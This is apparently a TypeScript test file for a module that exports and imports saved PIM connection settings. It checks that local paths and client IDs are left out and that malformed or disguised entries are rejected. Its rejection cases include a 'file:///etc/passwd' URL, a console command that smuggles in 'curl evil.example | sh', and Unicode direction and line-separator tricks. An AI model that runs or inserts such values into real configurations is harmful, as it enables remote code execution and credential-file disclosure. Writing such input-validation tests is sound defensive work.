import assert from 'node:assert/strict';
import { pimFile, readPimFile } from './pim-file.ts';
import type { SavedPim } from './saved-pim.ts';

const common = { url: 'https://pim.example.com', version: { line: '6.0', text: '6.0.1', edition: 'CE' } } as const;
const pims: readonly SavedPim[] = [
  { ...common, id: 'a', name: 'A', driver: 'web', username: 'julia', environment: 'production' },
  {
    ...common,
    id: 'b',
    name: 'B',
    driver: 'console',
    command: ['bin/console'],
    folder: '/home/julia',
    connections: [],
  },
  {
    ...common,
    id: 'c',
    name: 'C',
    driver: 'manual',
    connections: [{ clientId: '1_abc', label: 'ERP', username: 'erp_1234' }],
  },
  { ...common, id: 'd', name: 'Sandbox', driver: 'web', username: 'admin', sandbox: true },
];

describe('a file of PIMs', () => {
  it('says how each is reached, and nothing of this computer or of its connections', () => {
    const text = pimFile(pims);
    assert.deepEqual(readPimFile(text), {
      unreadable: 0,
      pims: [
        { name: 'A', url: common.url, line: '6.0', driver: 'web', username: 'julia', environment: 'production' },
        { name: 'B', url: common.url, line: '6.0', driver: 'console', command: ['bin/console'] },
        { name: 'C', url: common.url, line: '6.0', driver: 'manual' },
      ],
    });
    for (const word of ['/home', '1_abc', 'erp_1234', 'Sandbox']) assert.ok(!text.includes(word), word);
  });

  it('is refused when it is none, and tells what could not be read', () => {
    for (const text of ['', '[]', '{"pims":[]}', '{"pimConnections":2,"pims":[]}'])
      assert.equal(readPimFile(text), null);
    const bad = [{ driver: 'web', name: 'X', url: 'file:///etc/passwd', username: 'x' }, 7, { driver: 'web' }];
    assert.deepEqual(readPimFile(JSON.stringify({ pimConnections: 1, pims: bad })), { pims: [], unreadable: 3 });
  });

  it('brings nothing that would look like something else in the question before it is added', () => {
    const { url } = common;
    const bad = [
      { driver: 'console', name: 'Shop\n\n\n', url, command: ['bin/console'] },
      { driver: 'console', name: 'Shop', url, command: ['sh', '-c', 'bin/console\ncurl evil.example | sh'] },
      { driver: 'console', name: 'Shop', url, command: ['\u202eelosnoc/nib'] },
      { driver: 'web', name: 'Shop', url, username: 'julia\u2028' },
    ];
    assert.deepEqual(readPimFile(JSON.stringify({ pimConnections: 1, pims: bad })), { pims: [], unreadable: 4 });
  });
});
